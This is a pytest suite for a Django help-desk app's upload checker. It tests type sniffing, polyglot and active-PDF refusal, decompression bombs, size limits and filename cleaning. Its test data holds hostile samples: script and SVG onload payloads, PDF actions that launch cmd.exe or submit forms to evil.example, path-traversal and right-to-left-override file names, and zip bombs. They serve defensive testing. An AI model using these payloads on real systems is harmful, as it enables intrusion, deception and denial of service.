"""core/uploads.py: the type comes from the content, the structure must hold, active or glued-on
content is refused, the size is checked while reading, and names are made harmless."""

import io
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory, override_settings

from chatdesk.core import uploads
from chatdesk.core.errors import ValidationError
from tests.support.documents import JPEG, PDF, PNG, make_pdf, objstm_pdf_with_js


def upload(content, name="doc.pdf"):
    return SimpleUploadedFile(name, content)


def refused(content, name="doc.pdf"):
    with pytest.raises(ValidationError) as info:
        uploads.check(upload(content, name))
    return info.value


# --- accepted -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "content,name,content_type,ext",
    [(PDF, "نامه.pdf", "application/pdf", ".pdf"), (JPEG, "کارت ملی.jpeg", "image/jpeg", ".jpg"), (PNG, "scan.PNG", "image/png", ".png")],
)
def test_real_documents_pass_with_their_real_type(content, name, content_type, ext):
    checked = uploads.check(upload(content, name))
    assert checked.content_type == content_type
    assert checked.name.endswith(ext)
    assert checked.size == len(content)
    assert checked.content == content
    assert len(checked.sha256) == 64


def test_the_name_does_not_decide_the_type():
    # a real PNG called .pdf is stored as a PNG, with a .png display name
    checked = uploads.check(upload(PNG, "report.pdf"))
    assert checked.content_type == "image/png"
    assert checked.name == "report.png"


def test_compressed_content_streams_are_fine():
    assert uploads.check(upload(make_pdf(compress_content=True))).content_type == "application/pdf"


def test_camera_padding_after_a_jpeg_is_fine():
    assert uploads.check(upload(JPEG + b"\x00" * 64, "a.jpg")).content_type == "image/jpeg"


# --- disguised files ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        b"<!doctype html><html><body><script>alert(1)</script></body></html>",
        b"<html><script>fetch('/console/')</script></html>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"GIF89a\x01\x00\x01\x00",
        b"PK\x03\x04 a zip",
        b"MZ\x90\x00 an exe",
        b"%PDX-1.4 nearly",
    ],
)
def test_other_types_named_pdf_are_refused(content):
    error = refused(content, "document.pdf")
    assert error.code == "file_type"
    assert "PDF" in error.message


def test_html_after_a_pdf_header_is_refused():
    assert refused(b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n").code == "file_polyglot"


def test_svg_after_a_png_signature_is_refused():
    assert refused(b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>", "x.png").code == "file_polyglot"


@pytest.mark.parametrize(
    "tail",
    [b"<html><script>alert(1)</script></html>", b"PK\x03\x04\x14\x00\x00\x00", b"%PDF-1.4 second", b"<?xml version='1.0'?><svg/>"],
)
def test_polyglots_glued_after_the_end_are_refused(tail):
    assert refused(PNG + tail, "x.png").code == "file_polyglot"
    assert refused(JPEG + tail, "x.jpg").code == "file_polyglot"
    assert refused(PDF + tail, "x.pdf").code == "file_polyglot"


# --- active PDFs --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "catalog_extra",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ",
        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ",  # names written with #xx escapes
        b"/AA << /O << /S /Launch /F (cmd.exe) >> >> ",
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> ",
        b"/AcroForm << /XFA 9 0 R >> ",
        b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >> ",
    ],
)
def test_pdfs_with_script_or_actions_are_refused(catalog_extra):
    error = refused(make_pdf(catalog_extra=catalog_extra))
    assert error.code == "file_active_content"
    assert "اجرایی" in error.message


def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
    assert refused(objstm_pdf_with_js()).code == "file_active_content"


def test_a_pdf_that_opens_on_a_page_without_script_is_fine():
    ok = make_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit] ")
    assert uploads.check(upload(ok)).content_type == "application/pdf"


def test_a_zip_bomb_in_an_object_stream_stops_at_the_budget(monkeypatch):
    monkeypatch.setattr(uploads, "_PDF_INFLATE_LIMIT", 1024 * 1024)
    bomb = zlib.compress(b"\x00" * (8 * 1024 * 1024), 9)
    objstm = b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
    assert uploads.check(upload(make_pdf(extra_objects=[objstm]))).content_type == "application/pdf"


# --- broken structure ---------------------------------------------------------------------------
def test_truncated_pdf_without_eof_is_refused():
    assert refused(PDF[: PDF.rfind(b"%%EOF")]).code == "file_damaged"


def test_png_with_a_bad_crc_is_refused():
    broken = bytearray(PNG)
    broken[20] ^= 0xFF  # inside IHDR's data
    assert refused(bytes(broken), "x.png").code == "file_damaged"


def test_png_cut_before_iend_is_refused():
    assert refused(PNG[:-12], "x.png").code == "file_damaged"


def test_png_of_zero_width_is_refused():
    import struct

    ihdr = b"IHDR" + struct.pack(">IIBBBBB", 0, 8, 8, 6, 0, 0, 0)
    chunk = struct.pack(">I", 13) + ihdr + struct.pack(">I", zlib.crc32(ihdr) & 0xFFFFFFFF)
    iend = struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND") & 0xFFFFFFFF)
    assert refused(b"\x89PNG\r\n\x1a\n" + chunk + iend, "x.png").code == "file_damaged"


def test_jpeg_magic_alone_is_refused():
    assert refused(b"\xff\xd8\xff\xe0" + b"A" * 100, "x.jpg").code == "file_damaged"


# --- images are judged by a real decoder (Pillow) -----------------------------------------------
def photo(width=640, height=480, **save):
    """A real photo-like JPEG written by Pillow (libjpeg), with detail in it."""
    from PIL import Image

    image = Image.new("RGB", (width, height))
    pixels = image.load()
    for x in range(0, width, 3):
        for y in range(0, height, 2):
            pixels[x, y] = (x % 256, y % 256, (x * y) % 256)
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=85, **save)
    return buffer.getvalue()


@pytest.mark.parametrize("progressive", [False, True])
def test_a_jpeg_without_its_end_marker_is_accepted_as_decoders_open_it(progressive):
    """Phones and scanners write JPEGs without EOI; every decoder opens them."""
    whole = photo(progressive=progressive)
    assert whole.endswith(b"\xff\xd9")
    checked = uploads.check(upload(whole[:-2], "اسکن.jpg"))
    assert checked.content_type == "image/jpeg" and checked.content == whole[:-2]  # stored as sent
    assert uploads.check(upload(JPEG[:-2], "x.jpg")).content_type == "image/jpeg"


def test_a_jpeg_without_end_marker_still_cannot_carry_a_page_or_an_archive():
    assert refused(photo()[:-2] + b"<script>alert(1)</script>", "x.jpg").code == "file_polyglot"
    zip_end = b"PK\x05\x06" + b"\x00" * 18
    assert refused(photo()[:-2] + b"PK\x03\x04" + b"\x00" * 40 + zip_end, "x.jpg").code == "file_polyglot"


def _png_chunks(content):
    import struct

    pos, out = 8, []
    while pos < len(content):
        length, kind = struct.unpack(">I4s", content[pos:pos + 8])
        out.append((kind, content[pos + 8:pos + 8 + length]))
        pos += 12 + length
    return out


def _png_build(chunks):
    import struct

    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF) for kind, data in chunks
    )


def test_a_png_whose_pixels_do_not_decode_is_refused_though_its_chunks_hold_together():
    broken = [(k, b"\x78\x9c" + b"\xff" * (len(d) - 2) if k == b"IDAT" else d) for k, d in _png_chunks(PNG)]
    assert refused(_png_build(broken), "x.png").code == "file_damaged"  # every CRC is right


def test_a_decompression_bomb_is_refused_before_it_is_decoded():
    """20,000 × 20,000 one-bit pixels (400 million) in a few tens of kilobytes."""
    import struct

    width = height = 20_000
    row = b"\x00" + b"\x00" * (width // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    bomb = _png_build([(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b"")])
    assert len(bomb) < 200_000
    error = refused(bomb, "bomb.png")
    assert error.code == "image_too_large" and "میلیون" in error.message


def test_svg_and_other_non_images_named_jpg_are_still_refused():
    assert refused(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "x.jpg").code in ("file_type", "file_polyglot")
    assert refused(b"GIF89a" + b"\x00" * 40, "x.jpg").code == "file_type"


def test_empty_file_is_refused():
    assert refused(b"").code == "file_empty"


# --- size ---------------------------------------------------------------------------------------
class EndlessFile:
    """A 1 GB file that is never in memory: it counts what is read from it."""

    name = "huge.pdf"
    size = None  # it does not say how big it is

    def __init__(self, total=1024**3):
        self.total = total
        self.read_bytes = 0

    def read(self, n=-1):
        n = self.total - self.read_bytes if n is None or n < 0 else min(n, self.total - self.read_bytes)
        self.read_bytes += n
        return (b"%PDF-1.4\n" + b"0" * n)[:n] if self.read_bytes == n else b"0" * n


@override_settings(UPLOADS={"MAX_BYTES": 1024 * 1024, "MAX_FILES": 5})
def test_an_oversized_file_is_refused_after_reading_one_byte_more_than_the_limit():
    huge = EndlessFile()
    with pytest.raises(ValidationError) as info:
        uploads.check(huge)
    assert info.value.code == "file_too_large"
    assert "۱ مگابایت" in info.value.message
    assert huge.read_bytes == 1024 * 1024 + 1


@override_settings(UPLOADS={"MAX_BYTES": 1024, "MAX_FILES": 5})
def test_a_file_that_says_it_is_too_big_is_not_read_at_all():
    class Claims(EndlessFile):
        size = 10**9

    claims = Claims()
    with pytest.raises(ValidationError):
        uploads.check(claims)
    assert claims.read_bytes == 0


@override_settings(UPLOADS={"MAX_BYTES": 10 * 1024, "MAX_FILES": 2})
def test_too_many_files():
    with pytest.raises(ValidationError) as info:
        uploads.check_many([upload(PDF), upload(PDF), upload(PDF)])
    assert info.value.code == "too_many_files"


def test_check_many_names_the_bad_file():
    with pytest.raises(ValidationError) as info:
        uploads.check_many([upload(PDF, "ok.pdf"), upload(b"<html>", "نامه جعلی.pdf")])
    assert "«نامه جعلی»" in info.value.message


@override_settings(UPLOADS={"MAX_BYTES": 64 * 1024, "MAX_FILES": 5})
def test_the_request_handler_drops_an_oversized_part_while_parsing():
    big = PDF + b"%" + b"0" * (200 * 1024)
    request = RequestFactory().post("/x/", {"title": "t", "file": SimpleUploadedFile("big.pdf", big), "small": SimpleUploadedFile("s.pdf", PDF)})
    request.upload_handlers = [
        uploads.LimitedUploadHandler(request),
        *[h for h in request.upload_handlers if not isinstance(h, uploads.LimitedUploadHandler)],
    ]
    assert "file" not in request.FILES  # dropped, never stored
    assert request.FILES["small"].read() == PDF
    assert request.POST["title"] == "t"
    assert uploads.refused_files(request) == [("file", "big.pdf")]
    with pytest.raises(ValidationError) as info:
        uploads.raise_if_refused(request)
    assert info.value.code == "file_too_large" and "«big»" in info.value.message


def test_the_handler_is_installed_first():
    from django.conf import settings

    assert settings.FILE_UPLOAD_HANDLERS[0] == "chatdesk.core.uploads.LimitedUploadHandler"


# --- names --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "given,shown",
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\ali\\Desktop\\نامه.pdf", "نامه.pdf"),
        ("/var/www/static/x.pdf", "x.pdf"),
        ("evil\x00.html.pdf", "evil.html.pdf"),
        ("gpj.\u202eexe.pdf", "gpj.exe.pdf"),  # right-to-left override that would show "fdp.exe.jpg"
        ("a\u200bb\u2066c.pdf", "abc.pdf"),
        ("نامه\u200cها.pdf", "نامه\u200cها.pdf"),  # ZWNJ stays: Persian needs it
        ("....pdf", "pdf.pdf"),
        ("", "document.pdf"),
        ("....pdf", "pdf.pdf"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
        ("photo.jpeg", "photo.pdf"),  # the extension the content proved replaces the given one
    ],
)
def test_clean_name(given, shown):
    assert uploads.clean_name(given, ".pdf") == shown


def test_a_path_in_the_name_never_reaches_the_stored_file(db, tmp_path, settings):
    """The stored file name is random, under MEDIA_ROOT/attachments; the path is display-only."""
    from django.core.files.base import ContentFile
    from django.utils import timezone

    from chatdesk.tickets.models import Attachment

    settings.MEDIA_ROOT = tmp_path
    checked = uploads.check(upload(PDF, "../../../../tmp/owned.pdf"))
    attachment = Attachment(name=checked.name, content_type=checked.content_type, size=checked.size, sha256=checked.sha256,
                            uploaded_by="citizen", created_at=timezone.now())
    attachment.file.storage.location = str(tmp_path)
    attachment.file.save("../../../../tmp/owned.pdf", ContentFile(checked.content), save=False)
    assert attachment.name == "owned.pdf"
    assert attachment.file.name.startswith("attachments/")
    assert "owned" not in attachment.file.name
    assert (tmp_path / attachment.file.name).read_bytes() == PDF


def test_streamed_read_works_on_plain_binary_streams():
    stream = io.BytesIO(PNG)
    stream.name = "a.png"
    assert uploads.check(stream).size == len(PNG)
